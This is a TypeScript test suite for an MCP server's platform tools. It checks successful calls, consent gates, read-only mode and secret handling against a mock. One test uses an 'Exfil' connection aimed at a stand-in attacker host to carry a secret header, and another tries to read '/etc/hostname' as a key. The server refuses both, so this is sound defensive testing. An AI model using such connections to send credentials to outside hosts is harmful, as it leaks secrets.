// Every tool through the SDK's client, in process, against the stateful mock: what it answers
// when it goes through, and how it refuses (bad arguments, no consent, read-only mode), with the
// mock's request log showing that a refusal sent nothing.
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startStatefulMock, type StatefulMock } from "../../src/mock/stateful/server.js";
import { until } from "../cli/support/until.js";
import { API_KEY, JWT, content, failure, leaked, startHarness, text, type Harness } from "./support/harness.js";

const MODEL = "cm-4e5f6a7b"; // imported and ready to deploy in the mock's "examples"
const TOOL = "a-5e6f7a8b";
const APP = "st-0a1b2c3d";
const DEPLOY = {
  modelId: MODEL,
  modelType: "openSource",
  name: "support",
  hyperParameters: { temperature: 0.7, maxTokens: 256, topP: 0.9, topK: 40 },
  deviceType: "g5.xlarge",
};

let mock: StatefulMock;
let h: Harness;
let work: string;

beforeAll(async () => {
  mock = await startStatefulMock({ existing: "examples", jobs: { polls: 1 }, apiKey: API_KEY, jwt: JWT, chunkPageSize: 4 });
  work = mkdtempSync(join(tmpdir(), "platform-mcp-tools-"));
  writeFileSync(join(work, "model.tar"), Buffer.alloc(2 * 1024 * 1024 + 3, 5));
  writeFileSync(join(work, "tool.json"), JSON.stringify({ name: "support-tool" }));
  writeFileSync(join(work, "flow.json"), JSON.stringify({ nodes: [] }));
  writeFileSync(join(work, "env.json"), JSON.stringify({ REGION: "eu" }));
  writeFileSync(join(work, "invoice.pdf"), "%PDF-1.7 test");
});
beforeEach(async () => {
  mock.reset();
  h = await startHarness({ sharedMock: mock, server: { secretDirs: [work] } });
});
// Each test's own messages and logs carry no credential or provider key, whatever ran before it.
afterEach(async () => {
  try {
    expect(h.messages.length).toBeGreaterThan(0);
    expect(leaked([...h.messages.map((m) => m.text), ...h.logs.map((l) => JSON.stringify(l))])).toEqual([]);
  } finally {
    await h.close();
  }
});
afterAll(async () => {
  await mock?.stop();
  rmSync(work, { recursive: true, force: true });
});

const sent = (operationId?: string) => mock.requests(operationId ? { operationId: operationId as never } : {});

describe("tools/list", () => {
  it("lists twenty tools, each with its four annotations", async () => {
    const { tools } = await h.agent.listTools();
    expect(tools).toHaveLength(20);
    for (const tool of tools) {
      expect(Object.keys(tool.annotations ?? {}).sort(), tool.name).toEqual(["destructiveHint", "idempotentHint", "openWorldHint", "readOnlyHint", "title"]);
      expect(tool.inputSchema.type).toBe("object");
    }
  });

  it("in read-only mode lists only the tools that change nothing, and refuses the others unsent", async () => {
    const readOnly = await startHarness({ sharedMock: mock, server: { readOnly: true } });
    try {
      const { tools } = await readOnly.agent.listTools();
      expect(tools.map((t) => t.name).sort()).toEqual(["get_connection", "list_chunks", "list_connections", "wait_for_job"]);
      expect(tools.every((t) => t.annotations?.readOnlyHint === true)).toBe(true);
      const refused = await readOnly.call("deploy_guardrail", { name: "Toxicity" });
      expect(refused.isError).toBe(true);
      expect(failure(refused).name).toBe("ReadOnlyMode");
      expect(sent()).toEqual([]);
      expect((await readOnly.call("list_chunks", { botId: APP })).isError).toBeFalsy();
    } finally {
      await readOnly.close();
    }
  });
});

describe("a server whose client has no JWT", () => {
  it("answers the chunk tools with a ConfigurationError naming the JWT, sends nothing, and serves the other tools", async () => {
    const noJwt = await startHarness({ sharedMock: mock, client: { jwt: undefined } });
    try {
      const refused = await noJwt.call("list_chunks", { botId: APP });
      expect(refused.isError).toBe(true);
      expect(failure(refused).name).toBe("ConfigurationError");
      expect(text(refused)).toMatch(/jwt/i);
      expect(sent("listChunks")).toEqual([]);
      expect((await noJwt.call("list_connections", {})).isError).toBeFalsy();
    } finally {
      await noJwt.close();
    }
  });
});

describe("connections", () => {
  const providerOne = { provider: "PROVIDER_ONE", connectionName: "Support", model: "model-large-2", fields: { API_KEY: "env:PROVIDER_KEY" } };

  it("create_connection reads the key from the reference; list, get, update and replace follow", async () => {
    const created = await h.call("create_connection", { connection: providerOne });
    expect(created.isError, text(created)).toBeFalsy();
    const id = content<{ connectionId: string; status: string }>(created).connectionId;
    expect(content(created)).toMatchObject({ provider: "PROVIDER_ONE", status: "ACTIVE" });
    expect(text(created)).toContain(id);
    // The mock stored what the server read from its environment: the key, not the reference.
    expect(sent("createConnection")[0]!.body).toMatchObject({ fields: { API_KEY: expect.stringMatching(/^sk-p\*+c3f0$/) } });

    const listed = await h.call("list_connections", { status: "ACTIVE" });
    // Beside the ACTIVE connection the spec's examples name, which the mock holds from the start.
    const { total, connections } = content<{ total: number; connections: unknown[] }>(listed);
    expect(connections).toContainEqual(expect.objectContaining({ connectionId: id }));
    expect(total).toBe(connections.length);
    const got = await h.call("get_connection", { connectionId: id });
    expect(content(got)).toMatchObject({ connectionId: id, fields: { API_KEY: expect.stringContaining("*") } });

    const keyFile = join(work, "rotated.key");
    writeFileSync(keyFile, "sk-rotated-from-file-0a9b8c\n");
    const updated = await h.call("update_connection", { connectionId: id, changes: { fields: { API_KEY: `file:${keyFile}` } } });
    expect(updated.isError, text(updated)).toBeFalsy();
    expect(sent("updateConnection")[0]!.body).toMatchObject({ fields: { API_KEY: expect.stringMatching(/^sk-r\*+9b8c$/) } });
    expect(JSON.stringify(updated)).not.toContain("sk-rotated-from-file-0a9b8c");
  });

  it("replace_connection takes a custom connection's header values as references", async () => {
    const custom = {
      provider: "API",
      connectionName: "Inhouse",
      endpointUrl: "https://llm.internal.example/v1",
      headers: [{ key: "Authorization", value: "env:HEADER_SECRET" }],
      payload: { prompt: "{{prompt}}" },
      outputPath: "text",
      status: "DRAFT",
    };
    const created = await h.call("create_connection", { connection: custom });
    expect(created.isError, text(created)).toBeFalsy();
    const id = content<{ connectionId: string }>(created).connectionId;
    const replaced = await h.call("replace_connection", { connectionId: id, connection: { ...custom, status: "FINALIZED" } });
    expect(replaced.isError, text(replaced)).toBeFalsy();
    expect(content(replaced)).toMatchObject({ connectionId: id, status: "FINALIZED" });
  });

  it("refuses a literal key, an unset variable and the server's own credential, naming the field, and sends nothing", async () => {
    const literal = await h.call("create_connection", { connection: { ...providerOne, fields: { API_KEY: "sk-typed-into-the-chat-1234" } } });
    expect(literal.isError).toBe(true);
    expect(failure(literal).issues).toEqual([expect.objectContaining({ field: "connection.fields.API_KEY", rule: "secretReference" })]);
    expect(text(literal)).toContain("env:NAME");
    expect(JSON.stringify(literal)).not.toContain("sk-typed-into-the-chat-1234");

    const unset = await h.call("create_connection", { connection: { ...providerOne, fields: { API_KEY: "env:NOT_SET_ANYWHERE" } } });
    expect(text(unset)).toContain("env:NOT_SET_ANYWHERE, which is not set");
    const own = await h.call("create_connection", { connection: { ...providerOne, fields: { API_KEY: "env:SAME_AS_API_KEY" } } });
    expect(text(own)).toContain("own platform credential");
    const header = await h.call("update_connection", { connectionId: "cn-00000000-0000-4000-8000-000000000001", changes: { headers: [{ key: "X", value: "raw-header-value-77" }] } });
    expect(failure(header).issues).toEqual([expect.objectContaining({ field: "changes.headers[0].value" })]);
    expect(sent()).toEqual([]);
  });

  it("resolves only the variables and folders the operator allowed, naming the flag, and sends nothing otherwise", async () => {
    // Set in the server's environment, but not on its --secret-env list.
    const foreign = await h.call("create_connection", {
      connection: {
        provider: "API",
        connectionName: "Exfil",
        endpointUrl: "https://collector.attacker.invalid",
        headers: [{ key: "X-Token", value: "env:NOT_ALLOWED_KEY" }],
        payload: {},
        outputPath: "text",
      },
    });
    expect(failure(foreign).issues).toEqual([
      expect.objectContaining({
        field: "connection.headers[0].value",
        rule: "secretAllowList",
        message: expect.stringContaining("--secret-env NOT_ALLOWED_KEY (option secretEnv)"),
      }),
    ]);
    const outside = await h.call("create_connection", { connection: { ...providerOne, fields: { API_KEY: "file:/etc/hostname" } } });
    expect(failure(outside).issues).toEqual([
      expect.objectContaining({
        field: "connection.fields.API_KEY",
        rule: "secretAllowList",
        message: expect.stringContaining("--secret-dir DIR (option secretDirs)"),
      }),
    ]);
    expect(sent()).toEqual([]);
    // A server started without lists resolves nothing.
    const closed = await startHarness({ sharedMock: mock, server: { secretEnv: [] } });
    try {
      const refused = await closed.call("create_connection", { connection: providerOne });
      expect(failure(refused).issues).toEqual([expect.objectContaining({ rule: "secretAllowList" })]);
    } finally {
      await closed.close();
    }
    expect(sent()).toEqual([]);
    expect([...h.messages, ...closed.messages].map((m) => m.text).join("\n")).not.toContain("sk-not-allowed-env-3f9a1c");
  });

  it("sends a reference in a field the spec does not mark secret as the text it is", async () => {
    const custom = {
      provider: "API",
      connectionName: "env:PROVIDER_KEY",
      endpointUrl: "https://llm.internal.example/v1",
      headers: [{ key: "env:PROVIDER_KEY", value: "env:HEADER_SECRET" }],
      payload: { token: "env:PROVIDER_KEY" },
      outputPath: "text",
      status: "DRAFT",
    };
    const created = await h.call("create_connection", { connection: custom });
    expect(created.isError, text(created)).toBeFalsy();
    const body = sent("createConnection")[0]!.body as { connectionName: string; headers: Array<{ key: string }>; payload: { token: string } };
    expect([body.connectionName, body.headers[0]!.key, body.payload.token]).toEqual(["env:PROVIDER_KEY", "env:PROVIDER_KEY", "env:PROVIDER_KEY"]);
  });

  it("bad arguments get the client's field-and-rule message, unsent", async () => {
    const result = await h.call("get_connection", { connectionId: "not-an-id" });
    expect(result.isError).toBe(true);
    expect(failure(result)).toMatchObject({ name: "ValidationError", issues: [expect.objectContaining({ field: "connectionId", rule: "pattern" })] });
    const unknown = await h.call("list_connections", { staus: "ACTIVE" });
    expect(text(unknown)).toContain("staus is not an argument of list_connections; did you mean status?");
    expect(sent()).toEqual([]);
  });

  it("an answer from the platform that is an error carries its class, status and request id", async () => {
    const withRequestIds = await startHarness({
      sharedMock: mock,
      client: {
        fetch: async (input, init) => {
          const answer = await fetch(input, init);
          const headers = new Headers(answer.headers);
          headers.set("x-request-id", "req-4f2a");
          return new Response(answer.body, { status: answer.status, headers });
        },
      },
    });
    try {
      const result = await withRequestIds.call("get_connection", { connectionId: "cn-00000000-0000-4000-8000-00000000dead" });
      expect(failure(result)).toMatchObject({ name: "NotFoundError", status: 404, requestId: "req-4f2a", operationId: "getConnection" });
      expect(text(result)).toMatch(/^NotFoundError: .*\[request req-4f2a\]$/);
      expect(JSON.stringify(result)).not.toMatch(/\bat .*\.ts:\d+/);
    } finally {
      await withRequestIds.close();
    }
  });
});

describe("chunks", () => {
  it("list_chunks answers one page at a time, with the cursor of the next", async () => {
    const first = await h.call("list_chunks", { botId: APP });
    const page = content<{ chunks: Array<{ chunkId: string; raw?: unknown }>; nextCursor: string | null; hasMore: boolean }>(first);
    expect(page.chunks).toHaveLength(4);
    expect(page.chunks[0]).not.toHaveProperty("raw");
    expect(page.hasMore).toBe(true);
    expect(text(first)).toContain(`nextCursor ${page.nextCursor}`);
    const second = content<typeof page>(await h.call("list_chunks", { botId: APP, nextCursor: page.nextCursor }));
    expect(second.chunks).toHaveLength(2);
    expect(second).toMatchObject({ hasMore: false, nextCursor: null });
    expect(new Set([...page.chunks, ...second.chunks].map((c) => c.chunkId)).size).toBe(6);
  });

  it("list_chunks applies the spec's filter tree", async () => {
    const filters = { operand: "and", conditions: [{ key: "sourceName", op: "equals", value: "faq.pdf" }] };
    const page = content<{ chunks: Array<{ sourceName: string }> }>(await h.call("list_chunks", { botId: APP, filters }));
    expect(page.chunks.length).toBeGreaterThan(0);
    expect(page.chunks.every((c) => c.sourceName === "faq.pdf")).toBe(true);
  });

  it("update_chunk changes the fields given", async () => {
    const [chunk] = content<{ chunks: Array<{ chunkId: string }> }>(await h.call("list_chunks", { botId: APP })).chunks;
    const result = await h.call("update_chunk", { botId: APP, chunkId: chunk!.chunkId, chunkTitle: "Travel policy (2026)" });
    expect(result.isError, text(result)).toBeFalsy();
    expect(sent("updateChunk")[0]!.body).toEqual({ chunkTitle: "Travel policy (2026)" });
  });

  it("delete_chunks says what it would delete without confirm, and deletes with it", async () => {
    const refused = await h.call("delete_chunks", { botId: APP, chunkId: ["chk-00000000-0000-4000-8000-000000000001"] });
    expect(failure(refused)).toMatchObject({ name: "ConsentRequired", wouldDo: { action: `delete 1 chunk(s) from ${APP}` } });
    expect(sent("deleteChunksById")).toEqual([]);
    const done = await h.call("delete_chunks", { botId: APP, chunkId: ["chk-00000000-0000-4000-8000-000000000001", "chk-missing"], confirm: true });
    expect(content(done)).toMatchObject({ totalRequested: 2, totalDeleted: 1, totalNotFound: 1 });
  });
});

describe("models", () => {
  it("import_model uploads the file and answers the finished import job", async () => {
    const result = await h.call("import_model", { path: join(work, "model.tar"), chunkSize: 1024 * 1024 });
    expect(result.isError, text(result)).toBeFalsy();
    expect(content(result)).toMatchObject({ modelId: expect.stringMatching(/^cm-/), job: { status: "SUCCESS", action: expect.any(String) } });
    expect(sent("uploadImportChunk").map((r) => r.status)).toEqual([200, 200, 200]);
  });

  it("import_model refuses a path the server cannot read, before anything is sent", async () => {
    const result = await h.call("import_model", { path: join(work, "missing.tar") });
    expect(failure(result)).toMatchObject({ name: "ValidationError", issues: [expect.objectContaining({ field: "path", rule: "readable" })] });
    expect(sent()).toEqual([]);
  });

  it("deploy_model, export_model and undeploy (with consent) wait for their jobs", async () => {
    const deployed = await h.call("deploy_model", DEPLOY);
    expect(content(deployed)).toMatchObject({ job: { status: "SUCCESS", action: "DEPLOY" } });
    const exported = await h.call("export_model", { modelId: MODEL });
    expect(content(exported)).toMatchObject({ job: { status: "SUCCESS", downloadUrl: expect.stringContaining("/__mock/downloads/") } });
    expect(text(exported)).toContain("download it from");

    const refused = await h.call("undeploy", { modelId: MODEL });
    expect(failure(refused)).toMatchObject({ name: "ConsentRequired", wouldDo: { action: `undeploy model ${MODEL}`, modelId: MODEL } });
    expect(sent("undeployModel")).toEqual([]);
    const undeployed = await h.call("undeploy", { modelId: MODEL, confirm: true });
    expect(content(undeployed)).toMatchObject({ job: { status: "SUCCESS", action: "UNDEPLOY" } });
  });

  it("deploy_model with a value the spec refuses gets the client's message, unsent", async () => {
    const result = await h.call("deploy_model", { ...DEPLOY, hyperParameters: { ...DEPLOY.hyperParameters, temperature: 3 } });
    expect(text(result)).toBe("ValidationError: deployModel: hyperParameters.temperature must be <= 2");
    expect(sent()).toEqual([]);
  });

  it("undeploy takes exactly one of modelId, toolId and name", async () => {
    const both = await h.call("undeploy", { modelId: MODEL, toolId: TOOL, confirm: true });
    expect(failure(both).issues).toEqual([expect.objectContaining({ rule: "oneOf" })]);
    const none = await h.call("undeploy", { confirm: true });
    expect(text(none)).toContain("give exactly one of modelId, toolId and name");
    expect(sent()).toEqual([]);
  });
});

describe("tools, guardrails, attachments, jobs", () => {
  it("import_tool uploads files given as paths, then imports into the tool by ids", async () => {
    const created = await h.call("import_tool", { toolName: "support-tool", toolDataPath: join(work, "tool.json"), flowDataPath: join(work, "flow.json") });
    expect(created.isError, text(created)).toBeFalsy();
    const { fileIds, job } = content<{ fileIds: Record<string, string>; job: { status: string; toolId: string } }>(created);
    expect(job.status).toBe("SUCCESS");
    expect(sent("uploadFile")).toHaveLength(2);
    const into = await h.call("import_tool", {
      toolId: TOOL,
      toolDataFileId: fileIds.toolDataFileId,
      flowDataFileId: fileIds.flowDataFileId,
      envVariablesPath: join(work, "env.json"),
    });
    expect(content(into)).toMatchObject({ job: { status: "SUCCESS" } });
  });

  it("import_tool refuses a file given twice or missing, before any upload", async () => {
    const twice = await h.call("import_tool", { toolName: "t", toolDataFileId: "abc", toolDataPath: join(work, "tool.json"), flowDataFileId: "def" });
    expect(failure(twice).issues).toEqual([expect.objectContaining({ field: "toolDataPath", rule: "oneOf" })]);
    const missing = await h.call("import_tool", { toolId: TOOL, toolDataPath: join(work, "tool.json"), flowDataPath: join(work, "flow.json") });
    expect(text(missing)).toContain("envVariablesFileId or envVariablesPath is required");
    const nameless = await h.call("import_tool", { toolDataPath: join(work, "tool.json") });
    expect(failure(nameless).issues).toEqual([
      expect.objectContaining({ field: "flowDataFileId", rule: "required" }),
      expect.objectContaining({ field: "toolName", rule: "required" }),
    ]);
    const badName = await h.call("import_tool", { toolName: "", toolDataPath: join(work, "tool.json"), flowDataPath: join(work, "flow.json") });
    expect(failure(badName).issues).toEqual([expect.objectContaining({ field: "toolName" })]);
    // The second path is not there: the first file must not be uploaded and left behind.
    const badPath = await h.call("import_tool", { toolName: "t", toolDataPath: join(work, "tool.json"), flowDataPath: join(work, "no-such-flow.json") });
    expect(badPath.isError).toBe(true);
    expect(text(badPath)).toContain("flowDataPath");
    expect(sent()).toEqual([]);
  });

  it("export_tool, deploy_tool and undeploy of a tool", async () => {
    expect(content(await h.call("export_tool", { toolId: TOOL, flowId: TOOL }))).toMatchObject({ job: { status: "SUCCESS", downloadUrl: expect.any(String) } });
    expect(content(await h.call("deploy_tool", { toolId: TOOL, isAsync: false }))).toMatchObject({ job: { status: "SUCCESS" } });
    expect(content(await h.call("undeploy", { toolId: TOOL, confirm: true }))).toMatchObject({ job: { status: "SUCCESS", action: "UNDEPLOY" } });
  });

  it("deploy_guardrail and undeploy of a guardrail; a name outside the spec's list is refused", async () => {
    expect(content(await h.call("deploy_guardrail", { name: "Toxicity" }))).toMatchObject({ job: { status: "SUCCESS", jobType: "GUARDRAILS" } });
    expect(content(await h.call("undeploy", { name: "Toxicity", confirm: true }))).toMatchObject({ job: { status: "SUCCESS" } });
    const refused = await h.call("deploy_guardrail", { name: "Profanity" });
    expect(failure(refused).issues).toEqual([expect.objectContaining({ field: "name", rule: "enum" })]);
  });

  it("upload_attachment attaches a file from a path; delete_attachment needs consent", async () => {
    const uploaded = await h.call("upload_attachment", { appId: APP, envName: "dev", path: join(work, "invoice.pdf"), userReference: "user-42" });
    expect(content(uploaded)).toMatchObject({ fileName: "invoice.pdf", fileId: expect.stringMatching(/^f-/) });
    const fileId = content<{ fileId: string }>(uploaded).fileId;
    const refused = await h.call("delete_attachment", { appId: APP, envName: "dev", fileId });
    expect(failure(refused).name).toBe("ConsentRequired");
    expect(sent("deleteAttachment")).toEqual([]);
    expect((await h.call("delete_attachment", { appId: APP, envName: "dev", fileId, confirm: true })).isError).toBeFalsy();
  });

  it("wait_for_job reads a job once with maxWaitSeconds 0, and says an unknown one is unknown, with no handle", async () => {
    mock.setJobTiming({ polls: 100 });
    const started = await h.call("deploy_model", { ...DEPLOY, maxWaitSeconds: 0 });
    const id = content<{ handle: { dockStatusId: string } }>(started).handle.dockStatusId;
    expect(text(started)).toContain(`call wait_for_job with dockStatusId ${id}`);
    const read = await h.call("wait_for_job", { dockStatusId: id, maxWaitSeconds: 0 });
    expect(content(read)).toMatchObject({ job: { status: "IN_PROGRESS", dockStatusId: id }, handle: { dockStatusId: id, continueWith: "wait_for_job" } });
    // One look each: the deploy's, and wait_for_job's.
    expect(sent("getDockStatus")).toHaveLength(2);
    for (const maxWaitSeconds of [0, 5]) {
      const unknown = await h.call("wait_for_job", { dockStatusId: "ds-unknown-job", maxWaitSeconds });
      expect(failure(unknown)).toMatchObject({ name: "UnknownJob", status: 404 });
      expect(text(unknown)).toContain("job ds-unknown-job is unknown to the platform");
      expect(text(unknown)).not.toContain("call wait_for_job");
      expect(failure(unknown)).not.toHaveProperty("handle");
    }
  });

  it("resume_model_import refuses a state file that is a device or a FIFO at once, reading nothing", async () => {
    execFileSync("mkfifo", [join(work, "model.tar.import-state.json.fifo")]);
    for (const stateFile of ["/dev/zero", join(work, "model.tar.import-state.json.fifo")]) {
      const result = await h.call("resume_model_import", { stateFile, path: join(work, "model.tar") });
      expect(failure(result).issues, stateFile).toEqual([expect.objectContaining({ field: "stateFile", message: expect.stringContaining("must be the regular file an import wrote (ENOTFILE") })]);
    }
    expect(sent()).toEqual([]);
  });

  it("a FAILED job is an error result carrying the job", async () => {
    mock.failNextJob();
    const result = await h.call("deploy_guardrail", { name: "Relevance" });
    expect(failure(result)).toMatchObject({ name: "JobFailedError", job: { status: "FAILED" } });
  });

  it("a tools/call whose arguments are null or not an object gets -32602 and one line, not -32603 and a parser dump", async () => {
    const cases: Array<[number, unknown, string]> = [
      [71, null, "not null"],
      [72, [1, 2], "not an array"],
      [73, "text", "not string"],
    ];
    for (const [id, args] of cases) await h.sendRaw({ jsonrpc: "2.0", id, method: "tools/call", params: { name: "list_connections", arguments: args } });
    await h.sendRaw({ jsonrpc: "2.0", id: 74, method: "tools/call", params: { arguments: {} } });
    const answer = (id: number) =>
      h.messages.map((m) => JSON.parse(m.text) as { id?: number; error?: { code: number; message: string } }).find((m) => m.id === id && m.error);
    for (const [id, , says] of cases) {
      await until(() => answer(id) !== undefined);
      expect(answer(id)!.error).toEqual({ code: -32602, message: `MCP error -32602: tools/call: params.arguments must be an object of the tool's arguments, ${says}` });
    }
    await until(() => answer(74) !== undefined);
    expect(answer(74)!.error).toMatchObject({ code: -32602, message: expect.stringContaining("params.name must be the name of a tool") });
    expect(sent()).toEqual([]);
  });

  it("an unknown tool and a maxWaitSeconds over the server's bound are error results", async () => {
    expect(failure(await h.call("drop_everything")).name).toBe("UnknownTool");
    const over = await h.call("deploy_guardrail", { name: "Toxicity", maxWaitSeconds: 500 });
    expect(failure(over).issues).toEqual([expect.objectContaining({ field: "maxWaitSeconds", rule: "maximum" })]);
    expect(sent()).toEqual([]);
  });
});

describe("the JSON-RPC channel", () => {
  it("answers a malformed tools/call with a JSON-RPC error and goes on serving", async () => {
    await h.sendRaw({ jsonrpc: "2.0", id: 9001, method: "tools/call", params: { name: 42 } });
    await h.sendRaw({ jsonrpc: "2.0", id: 9002, method: "no/such/method" });
    await h.sendRaw({ jsonrpc: "2.0", method: "notifications/unknown" });
    const answers = () => h.messages.filter((m) => m.direction === "in" && /"id":900[12]/.test(m.text));
    await until(() => answers().length === 2);
    const [badParams, noMethod] = answers().map((m) => JSON.parse(m.text).error?.code);
    // The SDK answers parameters that fail its schema as an internal or invalid-params error.
    expect([-32602, -32603]).toContain(badParams);
    expect(noMethod).toBe(-32601);
    expect((await h.agent.listTools()).tools).toHaveLength(20);
  });
});
